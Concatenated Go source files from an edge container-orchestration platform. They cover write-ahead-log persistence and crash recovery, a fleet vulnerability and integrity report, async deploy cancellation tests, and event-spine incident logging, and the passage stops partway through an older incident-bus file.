// the platform takes a compacted snapshot: it reads the store's
// LastLSN FIRST, then exports the cluster state — any mutation at or
// below that LSN was applied under a lock the export later acquires,
// so the snapshot can never miss a logged record; mutations that land
// after the LSN read may appear in both the snapshot and the replayed
// tail, which is safe because every record kind replays last-wins.
//
// Recovery runs inside New, before the mutation sink is installed (so
// replay is never re-logged): the cluster imports the recovered state,
// sandbox policies are re-attached to recovered workloads, and the
// incident ledger is seeded with its sequence floor. Deliberately NOT
// persisted: the CA and issued identities (a restarted daemon mints a
// fresh root; clients re-enroll), the EdgeNode infrastructure objects
// (TPM, firmware, volumes — re-provisioning re-attests them; AddEdgeNode
// on a recovered member skips the cluster re-registration so placements
// survive), spine metrics, and the admitted/rejected counters.

import (
	"errors"
	"fmt"
	"log"

	"genio/internal/container"
	"genio/internal/orchestrator"
	"genio/internal/persist"
	"genio/internal/sandbox"
)

// defaultSnapshotEvery is the compaction cadence: one snapshot per this
// many appended records.
const defaultSnapshotEvery = 256

// WithStore installs a persistence backend (see internal/persist):
// control-plane mutations and incidents are logged through it, and New
// recovers whatever state it already holds before accepting traffic.
// The platform owns the store from here on — Close (snapshot + close)
// and Crash (flush-only close) release it.
func WithStore(s persist.Store) Option {
	return func(p *Platform) { p.store = s }
}

// WithSnapshotEvery overrides the snapshot cadence (records between
// compactions); n <= 0 keeps the default. Tests and simulations tighten
// it to exercise compaction.
func WithSnapshotEvery(n int) Option {
	return func(p *Platform) { p.snapEvery = n }
}

// recoverFromStore loads and imports persisted state; a no-op on an
// empty store. Runs before the mutation sink is installed.
func (p *Platform) recoverFromStore() error {
	st, err := p.store.Load()
	if err != nil {
		return err
	}
	if st == nil {
		return nil
	}
	p.Cluster.ImportState(st.Cluster, func(ref string) *container.Image {
		// Best effort: the registry is freshly built at New, so images
		// resolve only once re-pushed. A nil Image is tolerated by every
		// read and reschedule path.
		img, err := p.Registry.Pull(ref)
		if err != nil {
			return nil
		}
		return img
	})
	if p.Config.SandboxEnabled {
		for _, w := range p.Cluster.Workloads() {
			p.Enforcer.SetPolicy(w.Spec.Name, sandbox.DefaultWorkloadPolicy())
		}
	}
	seq := st.IncidentSeq
	for _, pi := range st.Incidents {
		p.incview.append(Incident{Source: pi.Source, Workload: pi.Workload,
			Detail: pi.Detail, Blocked: pi.Blocked, AtMs: pi.AtMs, Seq: pi.Seq})
		if pi.Seq > seq {
			seq = pi.Seq
		}
	}
	p.incMirror = append(p.incMirror, st.Incidents...)
	p.incview.seq.Store(seq)
	return nil
}

// persistMutation is the cluster's MutationSink: it converts and
// appends the record (buffered — no I/O on the caller's lock) and
// advances the snapshot cadence. An append failure leaves the live
// state authoritative but is never swallowed silently — the platform
// flips to a visible non-durable posture (see noteStoreFailure).
func (p *Platform) persistMutation(m orchestrator.Mutation) {
	if err := p.store.Append(recordFromMutation(m)); err != nil {
		p.noteStoreFailure(err)
		return
	}
	p.noteMutation()
}

// noteStoreFailure records the first persistence failure: the error
// becomes visible through StoreErr (and from there the healthz
// surface), is logged once, and raises a blocked incident — a daemon
// that keeps accepting deploys with zero durability must say so, or a
// later restart silently loses everything since the failure. ErrClosed
// during shutdown is the normal race of a late mutation against store
// release, not a durability failure.
func (p *Platform) noteStoreFailure(err error) {
	if errors.Is(err, persist.ErrClosed) || p.closed.Load() {
		return
	}
	p.storeFail.Do(func() {
		p.storeErr.Store(err)
		log.Printf("genio: persist store failed, control plane now NON-DURABLE: %v", err)
		// Off the caller's cluster lock; recordIncident publishes to the
		// spine and re-enters persistIncident (whose append fails too,
		// harmlessly — the Once already ran).
		go p.recordIncident(Incident{Source: "persist", Blocked: true,
			Detail: fmt.Sprintf("store failed, state no longer durable: %v", err)})
	})
}

// StoreErr reports the sticky persistence failure: nil while the store
// is healthy (or no store is configured), otherwise the first error
// that made the platform non-durable.
func (p *Platform) StoreErr() error {
	if v := p.storeErr.Load(); v != nil {
		return v.(error)
	}
	return nil
}

// recordFromMutation maps an orchestrator mutation onto its log record.
func recordFromMutation(m orchestrator.Mutation) persist.Record {
	r := persist.Record{Kind: m.Kind, Node: m.Node, Cordoned: m.Cordoned,
		Name: m.Name, Tenant: m.Tenant, Key: m.Key, Workload: m.Workload, VMSeq: m.VMSeq}
	switch m.Kind {
	case orchestrator.MutNodeJoin:
		capacity := m.Capacity
		r.Capacity = &capacity
	case orchestrator.MutQuota:
		q := m.Quota
		r.Quota = &q
	}
	return r
}

// persistIncident appends one incident record and mirrors it for
// snapshots. The append and the mirror share p.persistMu, so a
// snapshot (which reads LastLSN before copying the mirror) can never
// observe the log ahead of the mirror.
func (p *Platform) persistIncident(i Incident) {
	if p.store == nil {
		return
	}
	pi := persist.Incident{Source: i.Source, Workload: i.Workload,
		Detail: i.Detail, Blocked: i.Blocked, AtMs: i.AtMs, Seq: i.Seq}
	p.persistMu.Lock()
	err := p.store.Append(persist.Record{Kind: persist.KindIncident, Incident: &pi})
	if err == nil {
		p.incMirror = append(p.incMirror, pi)
	}
	p.persistMu.Unlock()
	if err != nil {
		p.noteStoreFailure(err)
		return
	}
	p.noteMutation()
}

// noteMutation advances the compaction cadence and, past the
// threshold, triggers a background snapshot. The threshold is adaptive:
// at least snapEvery records since the last snapshot, AND at least the
// last snapshot's own size (workloads + incidents, cached in snapSize —
// noteMutation runs inside cluster locks, so it must not query the
// cluster). The second term is what keeps snapshotting amortized O(1)
// per mutation: a snapshot costs O(state), so taking one per fixed
// record count over a growing cluster would be quadratic; requiring
// the replayable tail to reach the state's own size bounds total
// snapshot work at a constant factor of append work (the same policy
// as log-structured stores' AOF rewrite). TryLock keeps at most one
// snapshot in flight; a trigger that finds one running is skipped —
// the counter keeps growing, so the next mutation retries.
func (p *Platform) noteMutation() {
	every := int64(p.snapEvery)
	if every <= 0 {
		every = defaultSnapshotEvery
	}
	n := p.mutCount.Add(1)
	if n < every || n < p.snapSize.Load() {
		return
	}
	if !p.snapMu.TryLock() {
		return
	}
	p.mutCount.Store(0)
	go func() {
		defer p.snapMu.Unlock()
		_ = p.snapshotNow()
	}()
}

// SnapshotNow forces a compacted snapshot synchronously. Exported for
// tests and operational tooling; the cadence path calls the unexported
// body under the same lock.
func (p *Platform) SnapshotNow() error {
	if p.store == nil {
		return nil
	}
	p.snapMu.Lock()
	defer p.snapMu.Unlock()
	return p.snapshotNow()
}

// snapshotNow exports and persists the platform state. Callers hold
// p.snapMu. Order matters: LastLSN is read BEFORE the exports (see the
// package comment for why that can never miss a logged record).
func (p *Platform) snapshotNow() error {
	lsn0 := p.store.LastLSN()
	st := &persist.State{LSN: lsn0, Cluster: p.Cluster.ExportState()}
	p.persistMu.Lock()
	st.Incidents = append([]persist.Incident(nil), p.incMirror...)
	p.persistMu.Unlock()
	st.IncidentSeq = p.incview.seq.Load()
	p.snapSize.Store(int64(len(st.Cluster.Workloads) + len(st.Incidents)))
	return p.store.Snapshot(st)
}

// closeStore releases the store exactly once: a graceful close takes a
// final compacted snapshot first; a crash close only flushes the
// group-commit buffer (modelling the completed writes of a process
// killed mid-run) so recovery exercises log replay.
func (p *Platform) closeStore(snapshot bool) {
	if p.store == nil {
		return
	}
	p.storeClose.Do(func() {
		p.snapMu.Lock() // waits out an in-flight cadence snapshot
		defer p.snapMu.Unlock()
		if snapshot {
			_ = p.snapshotNow()
		} else {
			_ = p.store.Flush()
		}
		_ = p.store.Close()
	})
}

// Crash closes the platform the way kill -9 would: the event spine
// drains, but the store is released WITHOUT the shutdown snapshot —
// only group-committed log records survive, exactly the durable state
// an interrupted process leaves behind. The sim's kill-restart
// campaign and the crash-recovery tests reopen the same directory and
// must rebuild the platform from that log alone.
func (p *Platform) Crash() {
	p.closed.Store(true)
	p.spine.Close()
	p.closeStore(false)
}
