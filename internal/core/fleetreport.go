package core

// Fleet security reporting: the platform-level view an operator actually
// consumes — per-node vulnerability scans (M8), the cluster KBOM view
// (M12), a consolidated patch plan, and per-node integrity status (M5/M7),
// assembled from the live platform state.

import (
	"fmt"
	"sort"
	"strings"

	"genio/internal/fim"
	"genio/internal/vuln"
)

// NodeStatus is the integrity/security snapshot of one edge node.
type NodeStatus struct {
	Name          string `json:"name"`
	Attested      bool   `json:"attested"`
	StorageLocked bool   `json:"storageLocked"`
	ManualUnlock  bool   `json:"manualUnlock"`
	FIMAlerts     int    `json:"fimAlerts"`
	Findings      int    `json:"findings"`
	Skipped       int    `json:"skippedPackages"`
}

// FleetReport is the operator-facing rollup.
type FleetReport struct {
	Nodes    []NodeStatus   `json:"nodes"`
	Findings []vuln.Finding `json:"findings"`
	KBOM     []vuln.Finding `json:"kbomFindings"`
	Plan     *vuln.Plan     `json:"plan"`
}

// FleetSecurityReport scans every provisioned node with a path-tuned
// scanner, runs the FIM monitors, matches the cluster KBOM, and produces
// the consolidated patch plan.
func (p *Platform) FleetSecurityReport(db *vuln.Database) (*FleetReport, error) {
	if db == nil {
		db = vuln.DefaultDatabase()
	}
	scanner := vuln.NewScanner(db)
	scanner.AddSearchPath("/opt/")
	scanner.AddSearchPath("/lib/onl")

	rep := &FleetReport{}
	nodes := p.Nodes()
	sort.Slice(nodes, func(i, j int) bool { return nodes[i].Name < nodes[j].Name })
	for _, n := range nodes {
		scan := scanner.Scan(n.Host)
		st := NodeStatus{
			Name:          n.Name,
			Attested:      n.Attested,
			StorageLocked: n.Volume.Locked(),
			ManualUnlock:  n.ManualUnlock,
			Findings:      len(scan.Findings),
			Skipped:       scan.Skipped,
		}
		if n.FIM != nil {
			alerts, err := n.FIM.Scan()
			if err != nil {
				return nil, fmt.Errorf("fim scan %s: %w", n.Name, err)
			}
			st.FIMAlerts = len(fim.Raised(alerts))
		}
		rep.Nodes = append(rep.Nodes, st)
		rep.Findings = append(rep.Findings, scan.Findings...)
	}
	rep.KBOM = vuln.DefaultKBOM().Match(db)
	rep.Plan = vuln.BuildPlan(append(append([]vuln.Finding(nil), rep.Findings...), rep.KBOM...))
	return rep, nil
}

// Render formats the fleet report.
func (r *FleetReport) Render() string {
	var b strings.Builder
	b.WriteString("fleet security report\n\n")
	fmt.Fprintf(&b, "%-10s %-9s %-8s %-7s %-10s %-9s\n",
		"node", "attested", "storage", "fim", "findings", "skipped")
	for _, n := range r.Nodes {
		storage := "unlocked"
		if n.StorageLocked {
			storage = "LOCKED"
		}
		if n.ManualUnlock {
			storage += "*" // needed manual passphrase (Lesson 3)
		}
		fmt.Fprintf(&b, "%-10s %-9v %-8s %-7d %-10d %-9d\n",
			n.Name, n.Attested, storage, n.FIMAlerts, n.Findings, n.Skipped)
	}
	fmt.Fprintf(&b, "\ncluster KBOM findings: %d\n", len(r.KBOM))
	b.WriteString("\nconsolidated patch plan:\n")
	b.WriteString(r.Plan.Render())
	return b.String()
}
