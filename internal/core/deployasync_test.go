package core

// Tests for the v2 asynchronous deploy future: lifecycle ordering, the
// exactly-one-terminal-event guarantee, cancellation mid-scan (no placed
// workload, no leaked admission-pool goroutines, no warmed verdict-cache
// slot), deadline expiry, Watch streaming, and the closed-platform gate.

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"genio/internal/container"
	"genio/internal/events"
	"genio/internal/orchestrator"
)

// asyncPlatform builds a secure platform with one node, a signed clean
// image, and deploy rights for "ci" on tenant acme.
func asyncPlatform(t *testing.T) *Platform {
	t.Helper()
	p := securePlatform(t)
	t.Cleanup(p.Close)
	addNode(t, p, "olt-01")
	pushSigned(t, p, container.AnalyticsImage())
	allowDeploy(t, p, "ci", "acme")
	return p
}

func asyncSpec(name string) orchestrator.WorkloadSpec {
	return orchestrator.WorkloadSpec{
		Name: name, Tenant: "acme", ImageRef: "acme/analytics:2.0.1",
		Isolation: orchestrator.IsolationSoft,
		Resources: orchestrator.Resources{CPUMilli: 100, MemoryMB: 128},
	}
}

// armGate registers a spec-gated admission controller that holds the
// named deployment open until its context dies, and returns a channel
// signalled when the gate is reached.
func armGate(p *Platform, workload string) chan struct{} {
	reached := make(chan struct{})
	p.Cluster.RegisterAdmissionCtx("test-gate", func(ctx context.Context, spec orchestrator.WorkloadSpec, _ *container.Image) error {
		if spec.Name != workload {
			return nil
		}
		close(reached)
		<-ctx.Done()
		return ctx.Err()
	})
	return reached
}

func TestDeployAsyncLifecycleToRunning(t *testing.T) {
	p := asyncPlatform(t)
	var states []DeployState
	d, err := p.DeployAsync(context.Background(), "ci", asyncSpec("w1"),
		WithOnTransition(func(ev LifecycleEvent) { states = append(states, ev.State) }))
	if err != nil {
		t.Fatalf("DeployAsync: %v", err)
	}
	w, err := d.Result()
	if err != nil {
		t.Fatalf("Result: %v", err)
	}
	if w.Node != "olt-01" {
		t.Fatalf("placed on %q", w.Node)
	}
	if d.State() != StateRunning {
		t.Fatalf("state = %v, want running", d.State())
	}
	want := []DeployState{StatePending, StateScanning, StatePlacing, StateRunning}
	if len(states) != len(want) {
		t.Fatalf("transitions = %v, want %v", states, want)
	}
	for i := range want {
		if states[i] != want[i] {
			t.Fatalf("transition %d = %v, want %v (full: %v)", i, states[i], want[i], states)
		}
	}
}

// TestDeployAsyncCancelMidScan is the leak-checked regression test: a
// cancelled DeployAsync whose admission fan-out is held open must (a)
// never place the workload, (b) leave zero admission-pool goroutines
// behind, (c) release its clean-verdict cache slot — the cache holds
// exactly what it held before the deploy — and (d) emit exactly one
// terminal lifecycle event.
func TestDeployAsyncCancelMidScan(t *testing.T) {
	p := asyncPlatform(t)

	// Warm the scanner cache with a successful deploy so the cancelled
	// run's "no new cache entries" assertion is meaningful.
	if _, err := p.Deploy("ci", asyncSpec("warm")); err != nil {
		t.Fatalf("warm deploy: %v", err)
	}
	cacheBefore := p.Cluster.AdmissionCacheSize()

	var terminals atomic.Int64
	if _, err := p.Subscribe("terminal-count", []events.Topic{events.TopicDeployLifecycle},
		func(b []events.Event) {
			for _, e := range b {
				if le, ok := e.Payload.(LifecycleEvent); ok && le.Workload == "victim" && le.State.Terminal() {
					terminals.Add(1)
				}
			}
		}); err != nil {
		t.Fatal(err)
	}

	// Disable the cache for the cancelled run so every scanner actually
	// runs (and could, if buggy, commit a fresh verdict).
	p.Cluster.AdmissionCacheDisabled = true
	reached := armGate(p, "victim")
	before := runtime.NumGoroutine()

	d, err := p.DeployAsync(context.Background(), "ci", asyncSpec("victim"))
	if err != nil {
		t.Fatalf("DeployAsync: %v", err)
	}
	<-reached // the gate holds the admission fan-out open
	d.Cancel()
	_, derr := d.Result()

	var cancelled *orchestrator.CancelledError
	if !errors.As(derr, &cancelled) {
		t.Fatalf("Result err = %v, want *CancelledError", derr)
	}
	if !errors.Is(derr, orchestrator.ErrCancelled) || !errors.Is(derr, context.Canceled) {
		t.Fatalf("err %v must match ErrCancelled and context.Canceled", derr)
	}
	if errors.Is(derr, orchestrator.ErrRejected) {
		t.Fatalf("cancellation must not match ErrRejected")
	}
	if d.State() != StateCancelled {
		t.Fatalf("state = %v, want cancelled", d.State())
	}
	if _, placed := p.Cluster.Workload("victim"); placed {
		t.Fatal("cancelled deployment was placed")
	}
	p.Cluster.AdmissionCacheDisabled = false
	if got := p.Cluster.AdmissionCacheSize(); got != cacheBefore {
		t.Fatalf("verdict cache grew from %d to %d during a cancelled deploy", cacheBefore, got)
	}
	p.Flush()
	if got := terminals.Load(); got != 1 {
		t.Fatalf("terminal lifecycle events = %d, want exactly 1", got)
	}

	// The admission pool must drain completely: poll until the goroutine
	// count returns to (at most) the pre-deploy level.
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if runtime.NumGoroutine() <= before {
			return
		}
		runtime.Gosched()
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("goroutines: %d before cancel, %d after; admission pool leaked", before, runtime.NumGoroutine())
}

func TestDeployAsyncDeadlineExceeded(t *testing.T) {
	p := asyncPlatform(t)
	reached := armGate(p, "late")
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Millisecond)
	defer cancel()
	d, err := p.DeployAsync(ctx, "ci", asyncSpec("late"))
	if err != nil {
		t.Fatalf("DeployAsync: %v", err)
	}
	<-reached
	_, derr := d.Result()
	if !errors.Is(derr, orchestrator.ErrCancelled) || !errors.Is(derr, context.DeadlineExceeded) {
		t.Fatalf("err = %v, want ErrCancelled wrapping DeadlineExceeded", derr)
	}
	if _, placed := p.Cluster.Workload("late"); placed {
		t.Fatal("deadline-exceeded deployment was placed")
	}
}

// TestDeployAsyncCancelAfterTerminalIsNoop: cancelling a completed
// future changes nothing and emits no second terminal event.
func TestDeployAsyncCancelAfterTerminalIsNoop(t *testing.T) {
	p := asyncPlatform(t)
	var terminals atomic.Int64
	if _, err := p.Subscribe("terminal-count", []events.Topic{events.TopicDeployLifecycle},
		func(b []events.Event) {
			for _, e := range b {
				if le, ok := e.Payload.(LifecycleEvent); ok && le.State.Terminal() {
					terminals.Add(1)
				}
			}
		}); err != nil {
		t.Fatal(err)
	}
	d, err := p.DeployAsync(context.Background(), "ci", asyncSpec("done"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := d.Result(); err != nil {
		t.Fatalf("Result: %v", err)
	}
	d.Cancel()
	if d.State() != StateRunning {
		t.Fatalf("state after late cancel = %v, want running", d.State())
	}
	if _, placed := p.Cluster.Workload("done"); !placed {
		t.Fatal("workload vanished after late cancel")
	}
	p.Flush()
	if got := terminals.Load(); got != 1 {
		t.Fatalf("terminal events = %d, want 1", got)
	}
}

func TestWatchStreamsLifecycle(t *testing.T) {
	p := asyncPlatform(t)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	ch, err := p.Watch(ctx, WatchSelector{Tenant: "acme", TerminalOnly: true})
	if err != nil {
		t.Fatalf("Watch: %v", err)
	}
	const n = 4
	specs := make([]orchestrator.WorkloadSpec, 0, n)
	for i := 0; i < n; i++ {
		specs = append(specs, asyncSpec(fmt.Sprintf("watched-%d", i)))
	}
	go p.DeployBatch("ci", specs)
	seen := map[string]DeployState{}
	for i := 0; i < n; i++ {
		select {
		case ev := <-ch:
			if !ev.State.Terminal() {
				t.Fatalf("terminal-only watch delivered %v", ev.State)
			}
			seen[ev.Workload] = ev.State
		case <-time.After(5 * time.Second):
			t.Fatalf("watch delivered %d/%d terminal events", i, n)
		}
	}
	for i := 0; i < n; i++ {
		name := fmt.Sprintf("watched-%d", i)
		if seen[name] != StateRunning {
			t.Fatalf("workload %s terminal state = %v, want running", name, seen[name])
		}
	}
	cancel()
	if _, open := <-ch; open {
		// Drain anything in flight; the channel must close.
		for range ch {
		}
	}
}

func TestDeployAsyncOnClosedPlatform(t *testing.T) {
	p := asyncPlatform(t)
	p.Close()
	_, err := p.DeployAsync(context.Background(), "ci", asyncSpec("after-close"))
	var closed *ClosedError
	if !errors.As(err, &closed) {
		t.Fatalf("err = %v, want *ClosedError", err)
	}
	if !errors.Is(err, events.ErrClosed) {
		t.Fatalf("ClosedError must match events.ErrClosed, got %v", err)
	}
	if _, err := p.Deploy("ci", asyncSpec("after-close-sync")); !errors.Is(err, events.ErrClosed) {
		t.Fatalf("sync Deploy after close = %v, want ErrClosed", err)
	}
	if _, err := p.Watch(context.Background(), WatchSelector{}); !errors.Is(err, events.ErrClosed) {
		t.Fatalf("Watch after close = %v, want ErrClosed", err)
	}
}

// TestLifecycleElidedWithoutSubscribers: with no deploy.lifecycle
// subscriber, the topic's ledger stays at zero (observer-dependent
// telemetry), while the per-deployment callback still fires.
func TestLifecycleElidedWithoutSubscribers(t *testing.T) {
	p := asyncPlatform(t)
	var transitions int
	d, err := p.DeployAsync(context.Background(), "ci", asyncSpec("quiet"),
		WithOnTransition(func(LifecycleEvent) { transitions++ }))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := d.Result(); err != nil {
		t.Fatalf("Result: %v", err)
	}
	if got := d.Spec().Name; got != "quiet" {
		t.Fatalf("Spec().Name = %q", got)
	}
	select {
	case <-d.Done():
	default:
		t.Fatal("Done() not closed after Result returned")
	}
	if transitions != 4 {
		t.Fatalf("callback saw %d transitions, want 4", transitions)
	}
	p.Flush()
	if ts := p.Metrics()[events.TopicDeployLifecycle]; ts.Published != 0 {
		t.Fatalf("unwatched lifecycle published %d events, want 0 (elided)", ts.Published)
	}
}

// TestPublishEventContext covers the platform-level context publish:
// non-incident topics ride PublishContext, incident payloads keep the
// never-lost record path.
func TestPublishEventContext(t *testing.T) {
	p := securePlatform(t)
	t.Cleanup(p.Close)
	if err := p.PublishEventContext(context.Background(), events.Event{
		Topic: events.TopicMetric, Key: "k", Payload: events.Metric{Name: "m", Value: 1},
	}); err != nil {
		t.Fatalf("PublishEventContext metric: %v", err)
	}
	if err := p.PublishEventContext(context.Background(), events.Event{
		Topic: events.TopicIncident, Payload: Incident{Source: "ext", Detail: "d"},
	}); err != nil {
		t.Fatalf("PublishEventContext incident: %v", err)
	}
	if got := p.IncidentCounts()["ext"]; got != 1 {
		t.Fatalf("incident not recorded via context publish: %d", got)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	err := p.PublishEventContext(ctx, events.Event{Topic: events.TopicMetric, Key: "k"})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled PublishEventContext = %v, want context.Canceled", err)
	}
}

// TestDeployAsyncRunningEventRacesFailover pins the review fix for the
// lifecycle/failover data race: the running event must carry the
// commit-time Placement snapshot, because a concurrent FailNode rewrites
// the live *Workload in place (*w = *moved) under the cluster lock the
// moment the commit releases it. Under -race this test fails if the
// deployment goroutine reads the live struct instead.
func TestDeployAsyncRunningEventRacesFailover(t *testing.T) {
	p := asyncPlatform(t)
	addNode(t, p, "olt-02")

	stop := make(chan struct{})
	var churn sync.WaitGroup
	churn.Add(1)
	go func() {
		defer churn.Done()
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			name := "olt-01"
			if i%2 == 1 {
				name = "olt-02"
			}
			if _, err := p.Cluster.FailNode(name); err == nil {
				p.Cluster.AddNode(name, orchestrator.Resources{CPUMilli: 8000, MemoryMB: 16384})
			}
		}
	}()

	for i := 0; i < 40; i++ {
		d, err := p.DeployAsync(context.Background(), "ci", asyncSpec(fmt.Sprintf("racer-%d", i)))
		if err != nil {
			t.Fatalf("DeployAsync: %v", err)
		}
		// Quota rejections and no-capacity windows during churn are fine;
		// the test only requires the success path's node read be safe.
		if w, err := d.Result(); err == nil && w == nil {
			t.Fatal("nil workload with nil error")
		}
	}
	close(stop)
	churn.Wait()
}
