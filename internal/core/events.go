package core

// Event-spine wiring: the platform owns one events.Spine carrying every
// telemetry stream — incidents, falco alerts, control-plane audit
// records, metrics — and the incident log the public API exposes is a
// materialised view over the spine's incident topic. This replaces the
// old single-writer incident bus: the spine's Flush/Close lifecycle
// subsumes its drain semantics (Flush is read-your-writes, every Close
// blocks until drained), while sharding by tenant/node/workload key
// removes the single-queue bottleneck and gives external consumers
// (SIEM exporters, dashboards, simulators) the same subscription surface
// the platform itself uses.

import (
	"context"
	"fmt"
	"sort"
	"sync"
	"sync/atomic"

	"genio/internal/events"
	"genio/internal/orchestrator"
)

// incidentView materialises TopicIncident into the ordered, counted log
// behind Incidents() and IncidentCounts(). It is a regular spine
// subscriber; Flush before read gives the same visibility contract the
// old bus had. Appends arrive from shard goroutines (and, after Close,
// synchronously from late recorders), so state sits behind a lock.
type incidentView struct {
	// seq hands out Incident.Seq numbers at record time (shared with the
	// far-edge shadow platform, which reuses this view). Padded onto its
	// own cache line: every producer bumps it, every shard drainer takes
	// mu — sharing a line would serialize the two hot sides.
	seq atomic.Uint64
	_   [56]byte

	mu        sync.RWMutex
	incidents []Incident
	counts    map[string]int
	// sorted tracks whether incidents is currently in Seq order, so
	// repeated reads of a quiet log skip re-sorting.
	sorted bool
}

func newIncidentView() *incidentView {
	return &incidentView{counts: make(map[string]int)}
}

// batch is the view's spine subscription handler. Shard drainers append
// concurrently, so arrival order is not record order; snapshot restores
// it from Seq.
func (v *incidentView) batch(evs []events.Event) {
	v.mu.Lock()
	for _, e := range evs {
		if inc, ok := e.Payload.(Incident); ok {
			v.incidents = append(v.incidents, inc)
			v.counts[inc.Source]++
		}
	}
	v.sorted = false
	v.mu.Unlock()
}

// append applies one incident synchronously — the post-Close path, so
// late incidents are never lost.
func (v *incidentView) append(i Incident) {
	v.mu.Lock()
	v.incidents = append(v.incidents, i)
	v.counts[i.Source]++
	v.sorted = false
	v.mu.Unlock()
}

// snapshot returns the log in record (Seq) order.
func (v *incidentView) snapshot() []Incident {
	v.mu.Lock()
	defer v.mu.Unlock()
	if !v.sorted {
		sort.Slice(v.incidents, func(a, b int) bool {
			return v.incidents[a].Seq < v.incidents[b].Seq
		})
		v.sorted = true
	}
	out := make([]Incident, len(v.incidents))
	copy(out, v.incidents)
	return out
}

func (v *incidentView) countsBySource() map[string]int {
	v.mu.RLock()
	defer v.mu.RUnlock()
	out := make(map[string]int, len(v.counts))
	for k, c := range v.counts {
		out[k] = c
	}
	return out
}

// newSpine builds the platform spine from the Config's event knobs. The
// incident topic is pinned to Block whatever the configured default:
// bounding producer latency on lossy streams (metrics, alerts) must
// never make the security incident log lossy.
func newSpine(cfg Config) *events.Spine {
	return events.NewSpine(
		events.WithShards(cfg.EventShards),
		events.WithQueueCapacity(cfg.EventQueueCapacity),
		events.WithPolicy(cfg.EventBackpressure),
		events.WithTopicPolicy(events.TopicIncident, events.Block),
	)
}

// incidentKey shards incidents by workload when one is named, falling
// back to the source stream so unattributed incidents (boot, pon) still
// spread across shards deterministically per source.
func incidentKey(i Incident) string {
	if i.Workload != "" {
		return i.Workload
	}
	return i.Source
}

// Subscribe registers a handler on the platform's event spine for the
// given topics (nil = every topic). Handlers run on spine shard
// goroutines — see events.BatchHandler for the contract. Returns
// events.ErrClosed after Close.
func (p *Platform) Subscribe(name string, topics []events.Topic, h events.BatchHandler) (*events.Subscription, error) {
	return p.spine.Subscribe(name, topics, h)
}

// Metrics snapshots the spine's per-topic accounting: published,
// delivered, dropped (backpressure), and filtered (middleware) counts.
func (p *Platform) Metrics() events.Stats {
	return p.spine.Stats()
}

// EventPolicy reports the spine's default backpressure policy.
func (p *Platform) EventPolicy() events.Policy {
	return p.spine.Policy()
}

// EventPolicyFor reports the backpressure policy governing one topic.
// The incident topic always reports Block (see newSpine).
func (p *Platform) EventPolicyFor(t events.Topic) events.Policy {
	return p.spine.PolicyFor(t)
}

// PublishEvent publishes onto the platform spine, stamping AtMs from the
// platform clock when unset. External detectors and exporters integrate
// here; the platform's own pipeline publishes through the same path.
// Returns events.ErrClosed after Close.
//
// Incident-topic events are routed through the incident log's record
// path so they join the Seq order, count in Incidents(), and are never
// lost (even after Close) — exactly like RecordIncident. Their payload
// must therefore be a core.Incident.
func (p *Platform) PublishEvent(e events.Event) error {
	return p.PublishEventContext(context.Background(), e)
}

// PublishEventContext is PublishEvent with bounded waiting: under the
// Block backpressure policy a full shard queue stalls the publisher, and
// a done ctx abandons the wait with the context error instead (the event
// is not published). Incident-topic events keep the never-lost record
// path and ignore ctx once accepted.
func (p *Platform) PublishEventContext(ctx context.Context, e events.Event) error {
	if e.Topic == events.TopicIncident {
		inc, ok := e.Payload.(Incident)
		if !ok {
			return fmt.Errorf("core: incident topic requires an Incident payload, got %T", e.Payload)
		}
		if inc.AtMs == 0 {
			inc.AtMs = e.AtMs
		}
		p.recordIncident(inc)
		return nil
	}
	if p.now != nil && e.AtMs == 0 {
		e.AtMs = p.now()
	}
	return p.spine.PublishContext(ctx, e)
}

// publishMetric emits one metric event; drops silently after Close
// (metrics are advisory, unlike incidents).
func (p *Platform) publishMetric(name string, value float64, label string) {
	var atMs int64
	if p.now != nil {
		atMs = p.now()
	}
	_ = p.spine.Publish(events.Event{
		Topic: events.TopicMetric, Key: label, AtMs: atMs,
		Payload: events.Metric{Name: name, Value: value, Label: label},
	})
}

// publishWarmEvent mirrors one warm-slot lifecycle transition onto the
// spine: a slot.<kind> metric for every transition, plus an audit
// record for the state-changing ones (hits, evictions, flushes — a miss
// changes nothing and stays metric-only). Installed as the cluster's
// warm event sink; invoked outside cluster locks.
func (p *Platform) publishWarmEvent(ev orchestrator.WarmEvent) {
	label := ev.Node
	if label == "" {
		label = ev.Tenant
	}
	p.publishMetric("slot."+ev.Kind, float64(ev.Count), label)
	if ev.Kind != orchestrator.WarmMiss {
		p.publishAudit(orchestrator.WarmAudit(ev))
	}
}

// publishAudit forwards one control-plane audit record onto the spine;
// installed as the cluster's audit sink. Audit events after Close are
// dropped (the control-plane decision itself is already reflected in
// cluster state).
func (p *Platform) publishAudit(a orchestrator.AuditEvent) {
	if p.now != nil && a.AtMs == 0 {
		a.AtMs = p.now()
	}
	key := a.Tenant
	if key == "" {
		key = a.Node
	}
	_ = p.spine.Publish(events.Event{
		Topic: events.TopicAudit, Key: key, AtMs: a.AtMs, Payload: a,
	})
}
