package core

// The incident bus decouples the runtime hot path (sandbox enforcement,
// falco detection, admission rejections) from the incident log: producers
// enqueue onto a buffered channel and a single writer goroutine owns the
// append, so recording an incident never takes the platform-wide lock the
// read-side queries use. Flush gives callers read-your-writes: incidents a
// goroutine recorded before flushing are visible to its reads afterwards,
// because channel sends from one goroutine drain in order before the flush
// token does.

import "sync"

// busBuffer sizes the incident channel; producers only block when the
// writer goroutine falls this many events behind.
const busBuffer = 1024

type busMsg struct {
	inc Incident
	// flush, when non-nil, marks a synchronization token instead of an
	// incident: the writer closes it once everything queued ahead of it
	// has been applied.
	flush chan struct{}
}

type incidentBus struct {
	// sendMu guards the closed flag so no producer can send on a closed
	// channel; producers share it, Close takes it exclusively.
	sendMu sync.RWMutex
	closed bool
	ch     chan busMsg
	done   chan struct{}

	mu        sync.RWMutex
	incidents []Incident
	counts    map[string]int
}

func newIncidentBus() *incidentBus {
	b := &incidentBus{
		ch:     make(chan busMsg, busBuffer),
		done:   make(chan struct{}),
